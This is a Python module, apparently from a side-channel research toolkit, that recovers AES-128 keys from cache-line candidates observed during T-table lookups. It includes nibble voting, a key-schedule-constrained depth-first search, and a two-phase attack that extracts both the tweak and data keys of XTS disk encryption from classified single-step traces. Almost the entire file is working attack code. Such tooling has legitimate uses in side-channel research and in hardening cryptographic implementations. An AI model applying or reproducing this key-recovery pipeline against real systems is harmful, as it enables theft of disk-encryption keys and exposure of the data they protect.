"""AES key recovery from per-access cache-line candidates.

A lookup index ``x ^ k`` leaks its high nibble through the cache line.
Round-1 lines give the high nibble of every key byte by a weighted vote.
Round-2 lines pin the low nibbles: the round-2 index of state byte
(column c, row r) is ``HN(K[r]) ^ HN(T-output)`` where the T-output only
depends on round-1 key bytes with varying inputs and ``K`` collects the
next round key and all constant-input terms.  Per column we enumerate the
varying key bytes with a free nibble per row, then a depth-first
search assigns the remaining (constant-input) bytes and checks the free
nibbles through the key schedule.
"""
from __future__ import annotations

import itertools
import json
import threading
from concurrent.futures import ThreadPoolExecutor
from dataclasses import asdict, dataclass, field
from typing import Callable, Iterable, Optional, Sequence

import numpy as np

from .crypto.aes import (
    DEC_POSITIONS,
    DEC_TABLES,
    ENC_POSITIONS,
    ENC_TABLES,
    RCON,
    SBOX,
    TD,
    TE,
    aes128_expand_key,
    gf_mul,
    master_key_from_last_round_key,
    ttable_decrypt,
    ttable_encrypt,
)
from .crypto.xts import XtsCipher, plain64_iv

MAX_CANDIDATES = 7
LINES = 16

_T = {"encrypt": np.array(TE, dtype=np.uint32), "decrypt": np.array(TD, dtype=np.uint32)}
_POS = {"encrypt": ENC_POSITIONS, "decrypt": DEC_POSITIONS}
_TABLE_NAMES = {"encrypt": ENC_TABLES, "decrypt": DEC_TABLES}
_SBOX = np.array(SBOX, dtype=np.uint8)
_MUL = {m: np.array([gf_mul(x, m) for x in range(256)], dtype=np.uint8) for m in (9, 11, 13, 14)}


class KeyRecoveryError(RuntimeError):
    pass


class NoSurvivingKey(KeyRecoveryError):
    pass


class AmbiguousKey(KeyRecoveryError):
    def __init__(self, msg: str, survivors: int = 0, residual: Optional[list[int]] = None):
        super().__init__(msg)
        self.survivors = survivors
        self.residual = residual


class PhaseError(KeyRecoveryError):
    def __init__(self, msg: str, phase: int, partial: "RecoveredKeys"):
        super().__init__(msg)
        self.phase = phase
        self.partial = partial


@dataclass(frozen=True)
class Measurement:
    """Classified lookup: ranked candidate lines of one table access."""

    op: int
    round: int
    table: int
    position: int
    candidates: tuple[int, ...]
    probabilities: tuple[float, ...] = ()

    def __post_init__(self):
        if not self.candidates:
            raise ValueError("a measurement needs at least one candidate line")

    @property
    def mask(self) -> int:
        m = 0
        for c in self.candidates:
            m |= 1 << c
        return m


def extract_candidates(lines: Iterable[int], known_byte: int) -> set[int]:
    """Key-byte values consistent with round-1 lines for input byte ``known_byte``."""
    out: set[int] = set()
    for line in lines:
        out |= {s ^ known_byte for s in range(16 * line, 16 * line + 16)}
    return out


def filter_measurements(ms: Iterable[Measurement], max_candidates: int = MAX_CANDIDATES):
    """Drops measurements with too many candidate lines; returns (kept, dropped count)."""
    kept, dropped = [], 0
    for m in ms:
        if len(m.candidates) > max_candidates:
            dropped += 1
        else:
            kept.append(m)
    return kept, dropped


# vectorized key-schedule pieces ------------------------------------------

def _forward(k: np.ndarray, rcon: int) -> np.ndarray:
    """Round key i+1 from round key i, for (N, 16) arrays."""
    out = np.empty_like(k)
    t = _SBOX[k[:, [13, 14, 15, 12]]]
    t[:, 0] ^= rcon
    out[:, 0:4] = k[:, 0:4] ^ t
    for w in range(1, 4):
        out[:, 4 * w:4 * w + 4] = k[:, 4 * w:4 * w + 4] ^ out[:, 4 * w - 4:4 * w]
    return out


def _backward(k: np.ndarray, rcon: int) -> np.ndarray:
    """Round key i from round key i+1."""
    out = np.empty_like(k)
    for w in range(3, 0, -1):
        out[:, 4 * w:4 * w + 4] = k[:, 4 * w:4 * w + 4] ^ k[:, 4 * w - 4:4 * w]
    t = _SBOX[out[:, [13, 14, 15, 12]]]
    t[:, 0] ^= rcon
    out[:, 0:4] = k[:, 0:4] ^ t
    return out


def _inv_mix_columns(k: np.ndarray) -> np.ndarray:
    out = np.empty_like(k)
    for c in range(4):
        a = [k[:, 4 * c + i] for i in range(4)]
        for r in range(4):
            out[:, 4 * c + r] = (_MUL[14][a[r]] ^ _MUL[11][a[(r + 1) % 4]]
                                 ^ _MUL[13][a[(r + 2) % 4]] ^ _MUL[9][a[(r + 3) % 4]])
    return out


def next_round_key(direction: str, keys: np.ndarray) -> np.ndarray:
    """Round key used after the first table round, for (N, 16) first-round keys.

    Encrypt: rk1 from rk0.  Decrypt: the first key is rk10, the next is
    InvMixColumns(rk9).
    """
    k = np.asarray(keys, dtype=np.uint8)
    if direction == "encrypt":
        return _forward(k, RCON[0])
    return _inv_mix_columns(_backward(k, RCON[9]))


def round_keys(direction: str, keys: np.ndarray) -> np.ndarray:
    """(N, 11, 16) keys in the order the cipher applies them."""
    k = np.asarray(keys, dtype=np.uint8)
    out = np.empty((len(k), 11, 16), dtype=np.uint8)
    out[:, 0] = k
    if direction == "encrypt":
        for i in range(10):
            out[:, i + 1] = _forward(out[:, i], RCON[i])
        return out
    rk = k
    for i in range(9, -1, -1):  # rk = round key i
        rk = _backward(rk, RCON[i])
        out[:, 10 - i] = _inv_mix_columns(rk) if i > 0 else rk
    return out


def master_key(direction: str, first_round_key: bytes) -> bytes:
    return bytes(first_round_key) if direction == "encrypt" else master_key_from_last_round_key(first_round_key)


def first_round_key(direction: str, key: bytes) -> bytes:
    sched = aes128_expand_key(key)
    return sched.round_keys[0] if direction == "encrypt" else sched.inverse_round_keys[0]


# search --------------------------------------------------------------------

@dataclass
class SearchConfig:
    violation_rate: float = 0.12
    max_violations: Optional[int] = None  # per column; overrides violation_rate
    beam: int = 3
    max_branches: int = 64
    h_slack: int = 0
    depth: int = 9
    threads: int = 1
    chunk: int = 1 << 16
    alt_ratio: float = 0.5  # keep high nibbles with at least this share of the top vote
    min_vote_share: float = 0.5
    max_column_combos: int = 1 << 20
    min_agreement: float = 0.9  # phase-2 attempts need this fraction of the best tweak agreement
    min_votes: int = 3  # fewer round-1 measurements leave a byte's high nibble open
    max_reopen: int = 3  # on an empty result, reopen this many least-confident bytes one by one


@dataclass
class SearchStats:
    measurements: int = 0
    dropped: int = 0
    round1: int = 0
    round2: int = 0
    high_nibble_alternatives: list[int] = field(default_factory=list)
    column_survivors: list[int] = field(default_factory=list)
    branches: int = 0
    nodes: int = 0
    survivors: int = 0
    reopened: list[int] = field(default_factory=list)
    verified: bool = False


@dataclass
class KeyCandidate:
    key: bytes
    first_round_key: bytes
    column_violations: int
    agreement: float


@dataclass
class _ColumnChoice:
    values: dict[int, int]  # varying position -> key byte
    allowed: list[np.ndarray]  # per row, bool[16]
    violations: int


def _inputs_array(inputs) -> np.ndarray:
    arr = np.array([list(b) for b in inputs], dtype=np.uint8) if not isinstance(inputs, np.ndarray) else inputs
    return arr.astype(np.uint8).reshape(-1, 16)


def _votes(ms: Sequence[Measurement], inputs: np.ndarray) -> np.ndarray:
    """(position, high nibble) vote weights from round-1 candidate lines."""
    votes = np.zeros((16, 16))
    for m in ms:
        if m.round != 1:
            continue
        hi = int(inputs[m.op, m.position]) >> 4
        probs = m.probabilities or (1.0,) * len(m.candidates)
        for line, p in zip(m.candidates, probs):
            votes[m.position, line ^ hi] += p
    return votes


def vote_high_nibbles(ms: Sequence[Measurement], inputs: np.ndarray) -> tuple[np.ndarray, np.ndarray]:
    """Probability-weighted vote over round-1 lines; returns (nibbles, margins)."""
    votes = _votes(ms, inputs)
    order = np.sort(votes, axis=1)
    return votes.argmax(axis=1).astype(np.uint8), order[:, -1] - order[:, -2]


def vote_confidence(ms: Sequence[Measurement], inputs: np.ndarray) -> np.ndarray:
    """Per position: winning high-nibble weight over the number of round-1 measurements."""
    votes = _votes(ms, inputs)
    count = np.zeros(16)
    for m in ms:
        if m.round == 1:
            count[m.position] += 1
    return np.where(count > 0, votes.max(axis=1) / np.maximum(count, 1), 0.0)


def byte_candidates(ms: Sequence[Measurement], inputs: np.ndarray, alt_ratio: float,
                    min_share: float = 0.5, min_votes: int = 1,
                    reopen: Iterable[int] = ()) -> list[np.ndarray]:
    """Candidate key-byte values per position, best-voted high nibble first.

    Near-tied votes keep several high nibbles.  A position keeps all 16
    when its winning nibble carries less than ``min_share`` of its
    measurements, when it is listed in ``reopen``, or when its input byte
    is constant and it has fewer than ``min_votes`` measurements.  With
    constant inputs a classifier error repeats identically in every
    operation, so more votes do not help.
    """
    votes = _votes(ms, inputs)
    count = np.zeros(16)
    for m in ms:
        if m.round == 1:
            count[m.position] += 1
    forced = set(reopen)
    constant = [len(np.unique(inputs[:, p])) == 1 for p in range(16)]
    out = []
    low = np.arange(16, dtype=np.uint8)
    for p in range(16):
        order = np.argsort(-votes[p], kind="stable")
        top = votes[p, order[0]]
        if top <= 0 or top < min_share * count[p] or (constant[p] and count[p] < min_votes) or p in forced:
            his = [int(h) for h in order]
        else:
            his = [int(h) for h in order if votes[p, h] >= alt_ratio * top]
        out.append(np.concatenate([(np.uint8(h << 4) | low) for h in his]).astype(np.uint8))
    return out


def _column_choices(direction: str, col: int, values: list[np.ndarray], inputs: np.ndarray,
                    masks: np.ndarray, present: np.ndarray, varying: list[int],
                    cfg: SearchConfig) -> tuple[list[_ColumnChoice], int]:
    """Enumerate the column's varying key bytes; free high nibble per row."""
    T = _T[direction]
    pos = _POS[direction][col]
    size = int(np.prod([len(values[p]) for p in varying]))
    if size > cfg.max_column_combos:
        raise KeyRecoveryError(f"column {col}: {size} assignments exceed the enumeration budget")
    combos = np.array(list(itertools.product(*(values[p] for p in varying))), dtype=np.uint8)
    combos = combos.reshape(-1, len(varying))
    viol = np.empty((len(combos), 4, 16), dtype=np.int32)
    m16 = masks.astype(np.uint32)
    counted = present.sum(axis=0)
    step = 4096
    for lo in range(0, len(combos), step):
        part = combos[lo:lo + step]
        word = np.zeros((len(part), len(inputs)), dtype=np.uint32)
        for i, p in enumerate(varying):
            word ^= T[pos.index(p)][inputs[None, :, p] ^ part[:, i][:, None]]
        for r in range(4):
            hr = (word >> (28 - 8 * r)) & 0xF
            for h in range(16):
                ok = (m16[None, :, r] >> (hr ^ h)) & 1
                ok &= present[None, :, r]
                viol[lo:lo + step, r, h] = counted[r] - ok.sum(axis=1)
    best = viol.min(axis=2)
    total = best.sum(axis=1)
    limit = cfg.max_violations
    if limit is None:
        limit = int(np.floor(cfg.violation_rate * counted.sum()))
    surv = np.flatnonzero(total <= limit)
    surv = surv[np.argsort(total[surv], kind="stable")]
    out = []
    for i in surv[:cfg.beam]:
        allowed = [viol[i, r] <= best[i, r] + cfg.h_slack for r in range(4)]
        out.append(_ColumnChoice({p: int(combos[i, j]) for j, p in enumerate(varying)}, allowed, int(total[i])))
    return out, len(surv)


@dataclass
class _Check:
    col: int
    row: int
    deps: frozenset


def _predict_free_nibble(direction: str, keys: np.ndarray, const_in: np.ndarray,
                         col: int, row: int, varying: set[int]) -> np.ndarray:
    T = _T[direction]
    nk = next_round_key(direction, keys)
    w = np.zeros(len(keys), dtype=np.uint32)
    for i in range(4):
        w |= nk[:, 4 * col + i].astype(np.uint32) << (24 - 8 * i)
    for t, p in enumerate(_POS[direction][col]):
        if p not in varying:
            w ^= T[t][const_in[p] ^ keys[:, p]]
    return ((w >> (28 - 8 * row)) & 0xF).astype(np.uint8)


def _dependencies(direction: str, const_in: np.ndarray, col: int, row: int, varying: set[int]) -> frozenset:
    rng = np.random.default_rng(col * 4 + row)
    base = rng.integers(0, 256, (256, 16), dtype=np.uint8)
    ref = _predict_free_nibble(direction, base, const_in, col, row, varying)
    deps = set()
    for p in range(16):
        alt = base.copy()
        alt[:, p] ^= rng.integers(1, 256, 256, dtype=np.uint8)
        if np.any(_predict_free_nibble(direction, alt, const_in, col, row, varying) != ref):
            deps.add(p)
    return frozenset(deps)


def _order(unknown: set[int], fixed: set[int], checks: list[_Check], sizes: Sequence[int]) -> list[int]:
    """Greedy order: repeatedly complete the check that is cheapest to enumerate.

    A check's cost is the product of its missing bytes' candidate counts.
    """
    cost = [float(np.log2(max(n, 1))) for n in sizes]
    order: list[int] = []
    assigned = set(fixed)
    rest = set(unknown)
    while rest:
        open_checks = [c for c in checks if not c.deps <= assigned]
        if not open_checks:
            order.extend(sorted(rest))
            break
        target = min(open_checks, key=lambda c: (sum(cost[p] for p in c.deps - assigned), c.col, c.row))
        missing = target.deps - assigned
        for p in sorted(missing, key=lambda p: (cost[p], -sum(p in c.deps for c in open_checks), p)):
            order.append(p)
            assigned.add(p)
            rest.discard(p)
    return order


class _Search:
    def __init__(self, direction: str, values: list[np.ndarray], inputs: np.ndarray, varying: set[int],
                 cfg: SearchConfig):
        self.direction = direction
        self.values = values
        self.varying = varying
        self.const_in = inputs[0].copy()
        self.cfg = cfg
        self.checks = [_Check(c, r, _dependencies(direction, self.const_in, c, r, varying))
                       for c in range(4) for r in range(4)]
        self.unknown = set(range(16)) - varying
        self.order = _order(self.unknown, varying, self.checks, [len(v) for v in values])
        self.nodes = 0
        self._lock = threading.Lock()

    def _filter(self, keys: np.ndarray, allowed, checks: list[_Check]) -> np.ndarray:
        keep = np.ones(len(keys), dtype=bool)
        for ch in checks:
            h = _predict_free_nibble(self.direction, keys, self.const_in, ch.col, ch.row, self.varying)
            keep &= allowed[ch.col][ch.row][h]
        return keys[keep]

    def run_branch(self, choice: Sequence[_ColumnChoice]) -> list[np.ndarray]:
        allowed = [c.allowed for c in choice]
        root = np.zeros((1, 16), dtype=np.uint8)
        for p in range(16):
            root[0, p] = self.values[p][0]
        for c in choice:
            for p, v in c.values.items():
                root[0, p] = v
        assigned = set(self.varying)
        ready = [ch for ch in self.checks if ch.deps <= assigned]
        root = self._filter(root, allowed, ready)
        out: list[np.ndarray] = []
        if len(root):
            self._dfs(root, 0, allowed, out)
        return out

    def _dfs(self, nodes: np.ndarray, level: int, allowed, out: list) -> None:
        if level == len(self.order):
            out.extend(nodes)
            return
        p = self.order[level]
        before = set(self.varying) | set(self.order[:level])
        after = before | {p}
        newly = [ch for ch in self.checks if ch.deps <= after and not ch.deps <= before]
        vals = self.values[p]
        kids = np.repeat(nodes, len(vals), axis=0)
        kids[:, p] = np.tile(vals, len(nodes))
        with self._lock:
            self.nodes += len(kids)
        kids = self._filter(kids, allowed, newly)
        for start in range(0, len(kids), self.cfg.chunk):
            self._dfs(kids[start:start + self.cfg.chunk], level + 1, allowed, out)


def _round_masks(ms: Sequence[Measurement], n_ops: int) -> tuple[np.ndarray, np.ndarray]:
    """Round-2 candidate masks indexed (op, column, row)."""
    masks = np.zeros((n_ops, 4, 4), dtype=np.uint16)
    present = np.zeros((n_ops, 4, 4), dtype=bool)
    for m in ms:
        if m.round == 2:
            c, r = divmod(m.position, 4)
            masks[m.op, c, r] = m.mask
            present[m.op, c, r] = True
    return masks, present


def agreement(direction: str, key: bytes, inputs: np.ndarray, ms: Sequence[Measurement], depth: int) -> float:
    """Fraction of measurements up to round ``depth`` whose candidates hold the predicted line."""
    first = np.frombuffer(first_round_key(direction, key), dtype=np.uint8)[None, :]
    return float(agreement_batch(direction, first, _inputs_array(inputs), ms, depth)[0])


def agreement_batch(direction: str, first_keys: np.ndarray, inputs: np.ndarray,
                    ms: Sequence[Measurement], depth: int) -> np.ndarray:
    """Vectorized agreement for (N, 16) first-round keys."""
    T = _T[direction]
    pos = _POS[direction]
    rks = round_keys(direction, first_keys)
    n = len(first_keys)
    sel = [m for m in ms if 1 <= m.round <= min(depth, 9)]
    if not sel:
        return np.zeros(n)
    by_round: dict[int, list[Measurement]] = {}
    for m in sel:
        by_round.setdefault(m.round, []).append(m)
    state = inputs[None, :, :] ^ rks[:, None, 0, :]  # (N, J, 16)
    hits = np.zeros(n)
    for rnd in range(1, max(by_round) + 1):
        group = by_round.get(rnd, [])
        if group:
            ops = np.array([m.op for m in group])
            ps = np.array([m.position for m in group])
            masks = np.array([m.mask for m in group], dtype=np.uint32)
            lines = (state[:, ops, ps] >> 4).astype(np.uint32)
            hits += ((masks[None, :] >> lines) & 1).sum(axis=1)
        new = np.empty_like(state)
        for c in range(4):
            w = np.zeros(state.shape[:2], dtype=np.uint32)
            for t in range(4):
                w ^= T[t][state[:, :, pos[c][t]]]
            for r in range(4):
                new[:, :, 4 * c + r] = ((w >> (24 - 8 * r)) & 0xFF).astype(np.uint8) ^ rks[:, None, rnd, 4 * c + r]
        state = new
    return hits / len(sel)


def search_keys(measurements: Sequence[Measurement], inputs, direction: str,
                cfg: Optional[SearchConfig] = None) -> tuple[list[KeyCandidate], SearchStats]:
    """All keys consistent with the measurements, best agreement first."""
    cfg = cfg or SearchConfig()
    if direction not in _T:
        raise ValueError(f"unknown direction {direction!r}")
    inputs = _inputs_array(inputs)
    kept, dropped = filter_measurements(measurements)
    stats = SearchStats(measurements=len(kept), dropped=dropped)
    stats.round1 = sum(m.round == 1 for m in kept)
    stats.round2 = sum(m.round == 2 for m in kept)
    if stats.round1 == 0:
        raise KeyRecoveryError("no round-1 measurements")
    if stats.round2 == 0:
        values = byte_candidates(kept, inputs, cfg.alt_ratio, cfg.min_vote_share, cfg.min_votes)
        stats.high_nibble_alternatives = [len(v) // 16 for v in values]
        raise AmbiguousKey("round-1 lines leave the low nibble of every key byte open",
                           residual=[16] * 16)
    conf = vote_confidence(kept, inputs)
    while True:
        values = byte_candidates(kept, inputs, cfg.alt_ratio, cfg.min_vote_share, cfg.min_votes,
                                 stats.reopened)
        stats.high_nibble_alternatives = [len(v) // 16 for v in values]
        stats.column_survivors = []
        closed = sorted((p for p in range(16) if len(values[p]) < 256), key=lambda p: (conf[p], p))
        try:
            cands = _search_once(direction, values, inputs, kept, cfg, stats)
        except NoSurvivingKey:
            if len(stats.reopened) >= cfg.max_reopen or not closed:
                raise
            cands = []
        if cands or len(stats.reopened) >= cfg.max_reopen or not closed:
            break
        stats.reopened.append(closed[0])
    stats.survivors = len(cands)
    return cands, stats


def _search_once(direction: str, values: list[np.ndarray], inputs: np.ndarray,
                 kept: Sequence[Measurement], cfg: SearchConfig, stats: SearchStats) -> list[KeyCandidate]:
    masks, present = _round_masks(kept, len(inputs))
    varying = {p for p in range(16) if len(np.unique(inputs[:, p])) > 1}
    per_col = []
    for c in range(4):
        var_c = [p for p in _POS[direction][c] if p in varying]
        choices, n_surv = _column_choices(direction, c, values, inputs, masks[:, c], present[:, c], var_c, cfg)
        stats.column_survivors.append(n_surv)
        if not choices:
            raise NoSurvivingKey(f"column {c}: no low-nibble assignment within the violation budget")
        per_col.append(choices)
    branches = sorted(itertools.product(*per_col), key=lambda br: sum(c.violations for c in br))
    branches = branches[:cfg.max_branches]
    stats.branches = len(branches)
    search = _Search(direction, values, inputs, varying, cfg)
    if cfg.threads > 1 and len(branches) > 1:
        with ThreadPoolExecutor(cfg.threads) as pool:
            results = list(pool.map(search.run_branch, branches))
    else:
        results = [search.run_branch(br) for br in branches]
    stats.nodes += search.nodes
    seen: dict[bytes, int] = {}
    for br, found in zip(branches, results):
        v = sum(c.violations for c in br)
        for k in found:
            kb = bytes(k)
            if kb not in seen or seen[kb] > v:
                seen[kb] = v
    if not seen:
        return []
    rks = list(seen)
    first = np.array([list(k) for k in rks], dtype=np.uint8)
    agree = agreement_batch(direction, first, inputs, kept, cfg.depth)
    cands = [KeyCandidate(master_key(direction, rk), rk, seen[rk], float(a)) for rk, a in zip(rks, agree)]
    cands.sort(key=lambda c: (-c.agreement, c.column_violations, c.key))
    return cands


def _verify(direction: str, key: bytes, pairs) -> bool:
    fn = ttable_encrypt if direction == "encrypt" else ttable_decrypt
    sched = aes128_expand_key(key)
    return all(fn(bytes(i), sched, record=False)[0] == bytes(o) for i, o in pairs)


@dataclass
class KeyResult:
    key: bytes
    stats: SearchStats
    candidates: list[KeyCandidate]


def recover_single_key(measurements: Sequence[Measurement], inputs, direction: str,
                       verify: Optional[Sequence[tuple[bytes, bytes]]] = None,
                       cfg: Optional[SearchConfig] = None) -> KeyResult:
    """Unique key consistent with the measurements.

    ``verify`` holds (input, output) block pairs of the traced operation;
    with pairs only a verified key is returned, without them the best
    candidate must be strictly better than the runner-up.
    """
    cands, stats = search_keys(measurements, inputs, direction, cfg)
    if not cands:
        raise NoSurvivingKey("search space exhausted without a consistent key")
    if verify:
        for c in cands:
            if _verify(direction, c.key, verify):
                stats.verified = True
                return KeyResult(c.key, stats, cands)
        raise NoSurvivingKey(f"{len(cands)} candidate(s) survived but none verifies")
    if len(cands) > 1 and cands[0].agreement == cands[1].agreement:
        raise AmbiguousKey(f"{len(cands)} keys survive with equal agreement", survivors=len(cands))
    return KeyResult(cands[0].key, stats, cands)


# XTS -------------------------------------------------------------------

@dataclass
class RecoveredKeys:
    tweak_key: Optional[bytes]
    data_key: Optional[bytes]
    stats: dict

    def to_json(self) -> str:
        return json.dumps({
            "tweak_key": self.tweak_key.hex() if self.tweak_key else None,
            "data_key": self.data_key.hex() if self.data_key else None,
            "stats": self.stats,
        }, indent=2, sort_keys=True)


def _stats_dict(s: SearchStats) -> dict:
    return asdict(s)


def recover_xts_keys(encrypt_ms: Sequence[Measurement], decrypt_ms: Sequence[Measurement],
                     sectors: Sequence[int], ciphertexts: Sequence[bytes],
                     plaintexts: Sequence[Optional[bytes]], cfg: Optional[SearchConfig] = None,
                     all_payload_ops: bool = False) -> RecoveredKeys:
    """Two-phase XTS recovery.

    Op ``j`` of both measurement lists refers to sector ``sectors[j]``
    whose first ciphertext block was traced.  ``plaintexts[j]`` is the
    full known sector plaintext or None.  Phase 1 recovers the tweak key
    from the IV encryptions, phase 2 the data key from the decryptions of
    the known-plaintext sectors (all sectors with ``all_payload_ops``).
    """
    cfg = cfg or SearchConfig()
    ivs = np.array([list(plain64_iv(s)) for s in sectors], dtype=np.uint8)
    tweak_cands, s1 = search_keys(encrypt_ms, ivs, "encrypt", cfg)
    stats = {"phase1": _stats_dict(s1)}
    if not tweak_cands:
        raise PhaseError("phase 1: no tweak key survives", 1, RecoveredKeys(None, None, stats))
    known = [j for j, p in enumerate(plaintexts) if p is not None]
    if not known:
        raise PhaseError("phase 2 needs at least one known-plaintext sector to verify the keys", 2,
                         RecoveredKeys(tweak_cands[0].key, None, stats))
    ops = list(range(len(sectors))) if all_payload_ops else known
    remap = {j: i for i, j in enumerate(ops)}
    dec_ms = [Measurement(remap[m.op], m.round, m.table, m.position, m.candidates, m.probabilities)
              for m in decrypt_ms if m.op in remap]
    last_err: Optional[Exception] = None
    best = tweak_cands[0].agreement
    for tc in tweak_cands:
        if tc.agreement < cfg.min_agreement * best:
            break
        tsched = aes128_expand_key(tc.key)
        tweaks = [ttable_encrypt(plain64_iv(s), tsched, record=False)[0] for s in sectors]
        x = np.array([[a ^ b for a, b in zip(ciphertexts[j][:16], tweaks[j])] for j in ops], dtype=np.uint8)
        try:
            data_cands, s2 = search_keys(dec_ms, x, "decrypt", cfg)
        except KeyRecoveryError as exc:
            last_err = exc
            continue
        stats["phase2"] = _stats_dict(s2)
        j = known[0]
        for dc in data_cands:
            cipher = XtsCipher(dc.key + tc.key)
            if cipher.decrypt(ciphertexts[j], sectors[j]) == plaintexts[j]:
                stats["phase1"]["verified"] = True
                stats["phase2"]["verified"] = True
                stats["verified_sector"] = sectors[j]
                return RecoveredKeys(tc.key, dc.key, stats)
    msg = "phase 2: no data key verifies against the known sector"
    if last_err is not None:
        msg += f" ({last_err})"
    raise PhaseError(msg, 2, RecoveredKeys(tweak_cands[0].key, None, stats))


# from traces to measurements --------------------------------------------

def measurements_from_truth(scripts: Sequence, direction: str, rounds: Iterable[int] = (1, 2),
                            extra: Optional[Callable[[int, int], Sequence[int]]] = None) -> list[Measurement]:
    """Noise-free (or synthetically noised) measurements from access scripts.

    ``extra(op, true_line)`` may add spurious candidate lines.
    """
    names = _TABLE_NAMES[direction]
    rounds = set(rounds)
    out = []
    for op, script in enumerate(scripts):
        for lk in script:
            if lk.round in rounds and lk.table in names:
                line = lk.index >> 4
                cands = [line] + [l for l in (extra(op, line) if extra else ()) if l != line]
                out.append(Measurement(op, lk.round, names.index(lk.table), lk.position, tuple(cands)))
    return out


def measurements_from_traces(records, direction: str, models: dict, n_ops: int, mass: float = 0.95,
                             rounds: Iterable[int] = (1, 2)) -> tuple[list[Measurement], dict]:
    """Classify recorded single-step traces into ranked candidate measurements.

    ``records`` are trace measurements of one direction carrying
    ``request, table, seq, round, position, hot``; ``models`` maps table
    name to a trained classifier.
    """
    from .classifier import OUTLIER_HOT, Prediction, encode_sequence

    names = _TABLE_NAMES[direction]
    rounds = set(rounds)
    seqs = np.zeros((n_ops, len(names), 36, LINES), dtype=bool)
    where = {}
    outliers = 0
    for r in records:
        if r.direction != direction:
            continue
        t = names.index(r.table)
        if int(np.sum(r.hot)) > OUTLIER_HOT:
            outliers += 1
            continue
        seqs[r.request, t, r.seq] = r.hot
        where[(r.request, t, r.seq)] = r
    out = []
    for (op, t, s), r in sorted(where.items()):
        if r.round not in rounds:
            continue
        x = encode_sequence(seqs[op, t])[s]
        pred = Prediction.from_probs(models[names[t]].predict_proba(x)[0])
        cands = pred.candidates(mass)
        probs = tuple(float(pred.probabilities[c]) for c in cands)
        out.append(Measurement(op, r.round, t, r.position, tuple(cands), probs))
    return out, {"outliers": outliers}
